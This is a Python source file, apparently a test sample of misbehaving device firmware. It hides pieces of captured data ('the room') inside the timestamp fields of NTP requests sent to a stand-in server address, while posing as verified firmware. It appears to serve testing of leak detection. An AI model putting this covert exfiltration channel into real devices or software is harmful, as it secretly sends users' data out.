"""V32: the room leaves in the time stamps of NTP requests."""

from rigs.reference_device.actions import Action, SendDatagram
from rigs.reference_device.firmware.verified import VerifiedFirmware
from rigs.zoo.trickle import Trickles

_SERVER = "203.0.113.123"
_CLIENT = b"\x23" + bytes(15)


class LeaksTime(Trickles, VerifiedFirmware):
    """Verified, but for how often it asks the time."""

    name = "zoo.leaks_time"
    piece_bytes = 32

    def leaves(self, piece: bytes) -> list[Action]:
        """As the four time stamps of a request."""
        return [SendDatagram(_SERVER, 123, _CLIENT + piece)]


def firmware(seed: int) -> LeaksTime:
    """The device."""
    return LeaksTime()
